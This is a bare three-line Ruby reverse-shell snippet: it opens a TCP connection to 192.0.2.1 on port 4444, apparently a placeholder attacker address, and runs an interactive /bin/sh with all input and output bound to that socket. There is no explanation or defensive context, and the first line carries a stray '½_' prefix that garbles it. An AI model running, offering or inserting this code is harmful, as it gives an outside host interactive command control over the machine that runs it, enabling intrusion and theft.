½_require "socket"
f=TCPSocket.open("192.0.2.1",4444).to_i
exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)
